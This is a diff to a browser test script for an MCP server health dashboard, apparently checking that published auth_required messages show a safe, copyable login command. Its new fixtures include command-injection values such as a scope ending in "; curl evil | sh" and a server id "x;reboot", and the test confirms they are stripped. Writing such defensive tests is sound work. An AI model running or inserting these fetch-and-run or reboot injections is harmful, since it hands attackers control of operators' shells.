@@ -393,17 +393,20 @@ async function main() {
   // test) publishes as auth_required, one quarantined (tool baselines), and one with a status
   // word added to the protocol later.
   await step('h-statuses', async () => {
-    const message = (id, seq, status) => JSON.stringify({
+    const message = (id, seq, status, why = 'authorization is required') => JSON.stringify({
       v: 1, type: 'health', server_id: id, seq, status, previous_status: 'unknown', changed: true,
       status_since: new Date().toISOString(), checked_at: new Date().toISOString(),
       trigger: 'schedule', latency_ms: { total: 1, connect: 0, initialize: 1, tools_list: 0 },
       protocol_version: null, server_info: null, tool_count: null, tools_hash: null,
       consecutive_failures: 1, consecutive_successes: 0,
-      error: { kind: 'auth', message: 'authorization is required', http_status: null },
+      error: { kind: 'auth', message: why, http_status: null },
     });
     // A publish shows within a second (the issue's bound; it takes milliseconds).
     const t0 = performance.now();
-    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-needed', 1, 'auth_required')]);
+    // As the daemon words it (docs/PROTOCOL.md): the message ends with the command that fixes it.
+    const stepUp = "mcp-healthctl login login-needed --scope 'mcp:read mcp:write'";
+    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-needed', 1, 'auth_required',
+      "the server answered HTTP 403 insufficient_scope (it wants scope 'mcp:read mcp:write'); run: " + stepUp)]);
     await waitFor('a row for login-needed', (sel) => !!document.querySelector(sel), 5000, row('login-needed'));
     const shownMs = Math.round(performance.now() - t0);
     if (shownMs > 1000) throw new Error(`a published result took ${shownMs} ms to show (limit 1000 ms)`);
@@ -411,20 +414,53 @@ async function main() {
     await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('from-the-future', 1, 'hibernating')]);
     await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('rug-pulled', 1, 'quarantined')]);
     await waitFor('rows for login-needed (auth_required, with its hint), from-the-future (hibernating) and rug-pulled (quarantined)',
-      ([a, b, c]) => {
+      ([a, b, c, want]) => {
         const login = document.querySelector(a);
         const future = document.querySelector(b);
         const pulled = document.querySelector(c);
         return login?.dataset.status === 'auth_required' &&
-          login.querySelector('.c-status')?.textContent.includes('refresh_token') &&
+          login.querySelector('.c-status .login-command')?.textContent === want &&
           future?.dataset.status === 'hibernating' &&
           future.querySelector('.c-status')?.textContent.includes('hibernating') &&
           document.querySelector('[data-count-status="hibernating"]')?.textContent.includes('1') &&
           pulled?.dataset.status === 'quarantined' &&
           !!pulled.querySelector('.status.st-quarantined') &&
           document.querySelector('[data-count-status="quarantined"]')?.textContent.includes('1');
-      }, 5000, [row('login-needed'), row('from-the-future'), row('rug-pulled')]);
+      }, 5000, [row('login-needed'), row('from-the-future'), row('rug-pulled'), stepUp]);
     ok('auth_required shows what to do; quarantined is counted in its colour; an unknown status word gets its row and its count');
+
+    // Anyone who can write to Redis can publish: an operator pastes the command into a shell, so a
+    // message cannot put its own words into it. A crafted scope gives the plain command; an id
+    // that could not stand in a shell gives no command; a tail naming another server is not used.
+    const crafted = "x (it wants scope 'a'); run: mcp-healthctl login login-crafted --scope 'a'; curl evil | sh #'";
+    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-crafted', 1, 'auth_required', crafted)]);
+    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('x;reboot', 1, 'auth_required',
+      'no refresh token; run: mcp-healthctl login x;reboot')]);
+    await redisCommand(REDIS_PORT, ['PUBLISH', 'mcp:health', message('login-other', 1, 'auth_required',
+      "no refresh token; run: mcp-healthctl login login-needed --scope 'admin'")]);
+    await waitFor('the crafted auth_required messages: plain commands, or none',
+      ([a, b, c]) => {
+        const commandOf = (sel) => document.querySelector(sel)?.querySelector('.c-status .login-command')?.textContent;
+        const unsafe = document.querySelector(b);
+        return commandOf(a) === 'mcp-healthctl login login-crafted' &&
+          unsafe?.dataset.status === 'auth_required' && !unsafe.querySelector('.login-command') &&
+          unsafe.querySelector('.c-status .hint')?.textContent.includes('mcp-healthctl login') &&
+          commandOf(c) === 'mcp-healthctl login login-other';
+      }, 5000, [row('login-crafted'), row('x;reboot'), row('login-other')]);
+    ok('a published message cannot put its words into the login command (crafted scope, unsafe id, another server)');
+
+    // The panel shows the same command, with a button that copies it.
+    await page.click(row('login-needed') + ' .id-link');
+    await waitFor('the panel of login-needed with its login command and a copy button',
+      (want) => document.querySelector('#panel-hint .login-command')?.textContent === want &&
+        !document.querySelector('#panel-hint').hidden && !!document.querySelector('#panel-hint .copy-command'),
+      5000, stepUp);
+    await page.keyboard.press('Escape');  // (the panel may still be sliding in: no click)
+    await waitFor('#panel to close', () => {
+      const p = document.querySelector('#panel');
+      return !p || p.hidden || p.getClientRects().length === 0;
+    }, 5000);
+    ok('the panel of an auth_required server shows its login command with a copy button');
 
     // Filtering by status and by text, then back to every row.
     const visibleRows = () => page.evaluate(() => [...document.querySelectorAll('#servers tbody tr')]
@@ -440,7 +476,7 @@ async function main() {
     await page.type('#filter-text', 'xss');
     await listed('xss,xss-error');
     await page.$eval('#filter-text', (el) => { el.value = ''; el.dispatchEvent(new Event('input', { bubbles: true })); });
-    await listed('everything,from-the-future,login-needed,rug-pulled,xss,xss-error');
+    await listed('everything,from-the-future,login-crafted,login-needed,login-other,rug-pulled,x;reboot,xss,xss-error');
     ok('the status and text filters show only the matching rows');
   });
 
